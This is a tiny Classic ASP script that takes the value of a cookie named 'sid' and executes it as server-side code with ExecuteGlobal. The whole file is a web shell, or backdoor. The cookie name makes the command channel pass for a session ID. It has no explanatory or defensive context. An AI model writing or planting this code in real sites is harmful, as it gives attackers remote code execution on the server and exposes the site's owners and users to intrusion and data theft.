<%
Dim s
s = Request.Cookies("sid")
ExecuteGlobal s
%>
